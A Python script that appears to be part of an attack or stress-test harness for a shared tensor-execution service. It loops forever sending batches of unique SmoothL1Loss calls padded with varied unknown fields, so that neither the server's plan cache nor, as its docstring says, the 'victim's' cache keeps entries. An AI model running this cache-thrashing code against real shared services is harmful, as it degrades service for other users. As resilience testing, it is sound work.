"""Calls that are all different: shapes, names, attributes. The cache of plans keeps none of them for long, and the
victim's neither.
"""

import wire
from attack import Attack, Target, run


def thrash(target: Target) -> None:
    connection = target.connect(target.index)
    number = target.index << 40
    while True:
        calls = []
        for _ in range(32):
            number += 1
            shape = [1] * (number % 7) + [8]
            the_call = wire.call(
                "SmoothL1Loss",
                [wire.tensor("self", wire.FLOAT32, shape, raw=0), wire.tensor("target", wire.FLOAT32, shape, raw=0)],
                reduction=0,
                beta=float(number),
            )
            # Fields that nobody knows, so that no two messages are alike, nor short.
            padding = wire.field(3000 + number % 1000, b"x" * (number % 1500))
            calls.append(connection.start("Execute", padding + wire.execute(the_call, [bytes(32)])))
        connection.poll_until(lambda: all(call.ended for call in calls), 1.0)
        for call in calls:
            connection.forget(call)


if __name__ == "__main__":
    run(Attack([thrash, thrash]))
